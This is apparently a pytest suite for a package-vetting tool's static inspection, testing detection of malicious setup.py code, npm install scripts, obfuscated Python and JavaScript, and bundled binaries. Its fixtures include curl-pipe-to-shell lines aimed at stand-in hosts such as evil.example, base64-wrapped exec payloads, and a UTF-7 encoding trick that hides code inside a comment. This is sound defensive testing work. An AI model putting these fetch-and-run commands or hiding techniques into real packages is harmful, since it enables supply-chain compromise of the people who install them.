"""Static inspection: each check on the shapes it must catch, and on code it must let pass."""

from __future__ import annotations

import base64
import zlib

import pytest

from assay.vetting import inspect
from assay.vetting.artefact import Archive, Member
from assay.vetting.findings import FAIL, WARN, Finding
from assay.vetting.registry.interface import ReleaseFile, ReleaseInfo
from tests.vetting.packages import CLEAN_INIT, ELF

PAYLOAD = base64.b64encode(b"import os; os.system('curl http://evil.example/x | sh')").decode()


def _members(files: dict[str, bytes]) -> tuple[Member, ...]:
    return tuple(Member(path, data) for path, data in files.items())


def _archive(
    files: dict[str, bytes], kind: str = "sdist", filename: str = "d-1.0.tar.gz"
) -> Archive:
    return Archive(filename, kind, _members(files))


def _summary(findings: list[Finding]) -> list[tuple[str, str, str | None, int | None]]:
    return [(f.check, f.status, f.file, f.line) for f in findings]


class TestSetupPy:
    def test_os_system_curl_is_install_code_and_network(self) -> None:
        setup = (
            b"import os\nfrom setuptools import setup\n"
            b"os.system('curl -s http://x.example | sh')\nsetup()\n"
        )
        found = inspect.setup_py(_members({"demo-1.0/setup.py": setup}))
        assert _summary(found) == [
            (inspect.INSTALL, FAIL, "demo-1.0/setup.py", 3),
            (inspect.NETWORK, FAIL, "demo-1.0/setup.py", 3),
        ]

    @pytest.mark.parametrize(
        ("code", "check"),
        [
            ("from subprocess import check_call as cc\ncc(['make'])\n", inspect.INSTALL),
            ("import subprocess as sp\nsp.Popen('ls')\n", inspect.INSTALL),
            ("import urllib.request\nurllib.request.urlopen('http://x')\n", inspect.NETWORK),
            ("from urllib.request import urlopen\nurlopen('http://x')\n", inspect.NETWORK),
            ("import requests\nrequests.get('http://x')\n", inspect.NETWORK),
            ("import socket\nsocket.create_connection(('x', 1))\n", inspect.NETWORK),
            ("import http.client\nhttp.client.HTTPSConnection('x')\n", inspect.NETWORK),
        ],
    )
    def test_commands_and_network_calls(self, code: str, check: str) -> None:
        found = inspect.setup_py(_members({"p/setup.py": code.encode()}))
        assert [(f.check, f.status, f.line) for f in found] == [(check, FAIL, 2)]

    def test_plain_setup_is_clean(self) -> None:
        setup = b"from setuptools import setup\nsetup(name='demo', version='1.0')\n"
        assert inspect.setup_py(_members({"demo-1.0/setup.py": setup})) == []

    def test_setup_py_deep_in_the_tree_is_not_the_build_script(self) -> None:
        code = b"import os\nos.system('x')\n"
        assert inspect.setup_py(_members({"p/tests/data/setup.py": code})) == []

    def test_unparseable_setup_is_a_warning(self) -> None:
        found = inspect.setup_py(_members({"p/setup.py": b"print 'python 2'\n"}))
        assert _summary(found) == [(inspect.INSTALL, WARN, "p/setup.py", None)]

    @pytest.mark.parametrize(
        "member",
        [
            Member(
                "p/setup.py", b"import os\n" + b"#" * inspect.MAX_SOURCE + b"\nos.system('x')\n"
            ),
            Member("p/setup.py", b"import os\nos.system('x')\n", truncated=True),
        ],
    )
    def test_oversized_or_truncated_setup_is_a_warning_not_a_pass(self, member: Member) -> None:
        """Padding a setup.py past the parse limit must not make it look clean."""
        found = inspect.setup_py((member,))
        assert _summary(found) == [(inspect.INSTALL, WARN, "p/setup.py", None)]
        assert "larger than 2097152 bytes: not inspected" in found[0].message

    def test_setup_with_nul_bytes_is_a_warning(self) -> None:
        found = inspect.setup_py(_members({"p/setup.py": b"import os\x00\n"}))
        assert [f.message for f in found] == [
            "setup.py contains NUL bytes, not text: not inspected"
        ]

    def test_utf7_setup_is_read_the_way_python_reads_it(self) -> None:
        """PEP 263: CPython decodes the file with the declared codec; read as UTF-8 the
        os.system call below is a comment, decoded as UTF-7 it is code."""
        code = "\nos.system('curl http://x.example | sh')".encode("utf-16-be")
        hidden = b"+" + base64.b64encode(code).rstrip(b"=") + b"-"  # UTF-7's escape form
        setup = b"# -*- coding: utf_7 -*-\nimport os\n#" + hidden + b"\n"
        assert "os.system" not in setup.decode("utf-8")
        found = inspect.setup_py(_members({"p/setup.py": setup}))
        assert (inspect.INSTALL, FAIL, "p/setup.py", 4) in _summary(found)
        assert (inspect.NETWORK, FAIL, "p/setup.py", 4) in _summary(found)
        flagged = inspect.python_obfuscation(_members({"p/setup.py": setup}))
        assert _summary(flagged) == [(inspect.OBFUSCATED, FAIL, "p/setup.py", 1)]


class TestEncodingDeclarations:
    @pytest.mark.parametrize(
        ("declaration", "status"),
        [
            (b"# -*- coding: utf_7 -*-", FAIL),
            (b"# coding=utf-7", FAIL),
            (b"# vim: set fileencoding=unicode_escape :", FAIL),
            (b"# coding: raw_unicode_escape", FAIL),
            (b"# coding: iso2022_jp", FAIL),
            (b"# coding: latin-1", WARN),
            (b"# coding: cp1252", WARN),
        ],
    )
    def test_non_utf8_declarations_are_flagged(self, declaration: bytes, status: str) -> None:
        found = inspect.python_obfuscation(_members({"m.py": declaration + b"\nx = 1\n"}))
        assert [(f.check, f.status, f.file, f.line) for f in found] == [
            (inspect.OBFUSCATED, status, "m.py", 1)
        ]

    @pytest.mark.parametrize(
        "source",
        [b"# -*- coding: utf-8 -*-\nx = 1\n", b"# coding: ascii\nx = 1\n", b"\xef\xbb\xbfx = 1\n"],
    )
    def test_utf8_and_ascii_are_clean(self, source: bytes) -> None:
        assert inspect.python_obfuscation(_members({"m.py": source})) == []

    def test_an_unknown_codec_is_a_warning(self) -> None:
        found = inspect.python_obfuscation(_members({"m.py": b"# coding: no-such-codec\nx = 1\n"}))
        assert [(f.status, f.message.split(":")[0]) for f in found] == [
            (WARN, "unreadable encoding declaration"),
            (WARN, "cannot be parsed as Python 3"),
        ]

    def test_a_declaration_on_line_three_is_no_declaration(self) -> None:
        source = b"x = 1\ny = 2\n# coding: utf-7\n"
        assert inspect.python_obfuscation(_members({"m.py": source})) == []


class TestPythonObfuscation:
    @pytest.mark.parametrize(
        "code",
        [
            f"import base64\nexec(base64.b64decode('{PAYLOAD}'))\n",
            f"from base64 import b64decode as d\nexec(d('{PAYLOAD}').decode())\n",
            f"exec(__import__('base64').b64decode('{PAYLOAD}'))\n",
            "import zlib, marshal\nexec(marshal.loads(zlib.decompress(b'x')))\n",
            "import codecs\neval(codecs.decode('cevag(1)', 'rot13'))\n",
            "exec(compile(bytes.fromhex('7072696e74'), 'x', 'exec'))\n",
        ],
    )
    def test_exec_of_decoded_data(self, code: str) -> None:
        found = inspect.python_obfuscation(_members({"demo/__init__.py": code.encode()}))
        assert [(f.check, f.status, f.line) for f in found][:1] == [
            (inspect.OBFUSCATED, FAIL, 2 if code.startswith(("import", "from")) else 1)
        ]

    def test_exec_of_long_high_entropy_literal(self) -> None:
        blob = base64.b64encode(zlib.compress(bytes(range(256)) * 2)).decode()
        found = inspect.python_obfuscation(_members({"m.py": f"exec('{blob}')\n".encode()}))
        assert _summary(found) == [(inspect.OBFUSCATED, FAIL, "m.py", 1)]

    @pytest.mark.parametrize(
        "code",
        [
            CLEAN_INIT.decode(),
            "exec('print(1)')\n",
            "import base64\ndata = base64.b64decode('aGVsbG8=')\n",  # decoding alone runs nothing
            "eval(expression)\n",
            f"TEXT = '{'ab' * 500}'\nexec(TEXT_PLACEHOLDER)\n",
        ],
    )
    def test_ordinary_code_is_clean(self, code: str) -> None:
        assert inspect.python_obfuscation(_members({"m.py": code.encode()})) == []

    def test_non_python_files_are_ignored(self) -> None:
        code = f"import base64\nexec(base64.b64decode('{PAYLOAD}'))\n".encode()
        assert inspect.python_obfuscation(_members({"README.md": code})) == []

    def test_truncated_member_is_not_parsed(self) -> None:
        code = f"import base64\nexec(base64.b64decode('{PAYLOAD}'))\n".encode()
        assert inspect.python_obfuscation((Member("m.py", code, truncated=True),)) == []

    def test_hostile_nesting_does_not_crash(self) -> None:
        found = inspect.python_obfuscation(
            _members({"m.py": b"x = " + b"(" * 200_000 + b")" * 200_000})
        )
        assert _summary(found) == [(inspect.OBFUSCATED, WARN, "m.py", None)]

    def test_null_bytes_are_binary_not_source(self) -> None:
        assert inspect.python_obfuscation(_members({"m.py": b"\x00\x01exec(x)"})) == []


class TestNpm:
    def _release(self, scripts: dict[str, str]) -> ReleaseInfo:
        return ReleaseInfo("1.0.0", scripts=tuple(scripts.items()))

    def test_postinstall_curl(self) -> None:
        release = self._release(
            {"postinstall": "curl https://evil.example/x.sh | sh", "test": "jest"}
        )
        found = inspect.npm_install_scripts(release, None)
        assert [(f.check, f.status) for f in found] == [
            (inspect.INSTALL, WARN),
            (inspect.NETWORK, FAIL),
        ]
        assert "postinstall" in found[0].message

    def test_tarball_package_json_counts_too(self) -> None:
        archive = _archive(
            {
                "package.json": b'{"scripts": {"preinstall": "node ./setup.js"}}',
                "setup.js": b"const https = require('https');\n\nhttps.get('https://x.example');\n",
            },
            kind="tarball",
        )
        found = inspect.npm_install_scripts(self._release({}), archive)
        assert _summary(found) == [
            (inspect.INSTALL, WARN, "package.json", None),
            (inspect.NETWORK, WARN, "setup.js", 1),
        ]

    def test_no_install_scripts(self) -> None:
        release = self._release({"test": "jest", "build": "tsc"})
        assert inspect.npm_install_scripts(release, None) == []

    def test_hostile_package_json(self) -> None:
        archive = _archive({"package.json": b"[" * 100_000}, kind="tarball")
        assert inspect.npm_install_scripts(self._release({}), archive) == []

    @pytest.mark.parametrize(
        "code",
        [
            "eval(atob('YWxlcnQoMSk='))",
            "new Function(Buffer.from(p, 'base64').toString())()",
            "eval(String.fromCharCode(97, 108))",
            "var a = 1;\neval( unescape('%61') )",
        ],
    )
    def test_js_eval_of_decoded_data(self, code: str) -> None:
        found = inspect.js_obfuscation(_members({"lib/index.js": code.encode()}))
        assert [(f.check, f.status) for f in found] == [(inspect.OBFUSCATED, FAIL)]
        assert (
            found[0].line
            == code.count("\n", 0, code.index("eval" if "eval" in code else "new")) + 1
        )

    def test_plain_js_is_clean(self) -> None:
        code = (
            b"const x = JSON.parse(text);\nmodule.exports = function add(a, b) { return a + b };\n"
        )
        assert inspect.js_obfuscation(_members({"index.js": code})) == []

    def test_oversized_script_run_at_install_is_a_warning(self) -> None:
        archive = _archive(
            {"install.js": b"//" + b"x" * inspect.MAX_SOURCE + b"\nrequire('https')\n"},
            "tarball",
        )
        release = ReleaseInfo("1.0", scripts=(("postinstall", "node install.js"),))
        found = inspect.npm_install_scripts(release, archive)
        assert [(f.check, f.status, f.file) for f in found] == [
            (inspect.INSTALL, WARN, "package.json"),
            (inspect.INSTALL, WARN, "install.js"),
        ]
        assert "run by 'postinstall', larger than" in found[1].message


class TestBinaries:
    def test_elf_in_npm_tarball(self) -> None:
        found = inspect.binaries(_archive({"bin/helper": ELF, "index.js": b"1"}, kind="tarball"))
        assert _summary(found) == [(inspect.BINARIES, FAIL, "bin/helper", None)]
        assert "ELF" in found[0].message

    def test_pe_and_macho(self) -> None:
        pe = b"MZ" + b"\0" * 58 + (64).to_bytes(4, "little") + b"PE\0\0" + b"\0" * 20
        macho = b"\xcf\xfa\xed\xfe" + b"\0" * 28
        found = inspect.binaries(_archive({"a.bin": pe, "b": macho}))
        assert [f.message.split()[0] for f in found] == ["PE", "Mach-O"]

    def test_mz_text_is_not_pe(self) -> None:
        assert inspect.binaries(_archive({"notes.txt": b"MZ is a town" + b" " * 80})) == []

    def test_native_names_warn(self) -> None:
        found = inspect.binaries(_archive({"lib/x.so": b"not really", "lib/y.dll": b"no"}))
        assert [(f.status, f.file) for f in found] == [(WARN, "lib/x.so"), (WARN, "lib/y.dll")]

    def test_platform_wheel_may_ship_binaries(self) -> None:
        archive = _archive(
            {"x/_speedups.so": ELF}, kind="wheel", filename="x-1-cp312-manylinux.whl"
        )
        assert inspect.binaries(archive) == []
        assert len(inspect.binaries(archive, pure_wheel=True)) == 1


class TestSdistOnly:
    def test_release_without_wheel_runs_setup(self) -> None:
        release = ReleaseInfo("1.0", files=(ReleaseFile("sdist", "d.tar.gz", "u"),))
        found = inspect.sdist_only(release, _archive({"d-1.0/setup.py": b""}))
        assert _summary(found) == [(inspect.INSTALL, WARN, "setup.py", None)]

    def test_release_with_wheel_or_without_setup(self) -> None:
        both = ReleaseInfo(
            "1.0",
            files=(ReleaseFile("sdist", "d.tar.gz", "u"), ReleaseFile("wheel", "d.whl", "u")),
        )
        assert inspect.sdist_only(both, _archive({"d-1.0/setup.py": b""})) == []
        only = ReleaseInfo("1.0", files=(ReleaseFile("sdist", "d.tar.gz", "u"),))
        assert inspect.sdist_only(only, _archive({"d-1.0/pyproject.toml": b""})) == []


def test_entropy() -> None:
    assert inspect.entropy("") == 0.0
    assert inspect.entropy("aaaa") == 0.0
    assert inspect.entropy("abcd") == pytest.approx(2.0)
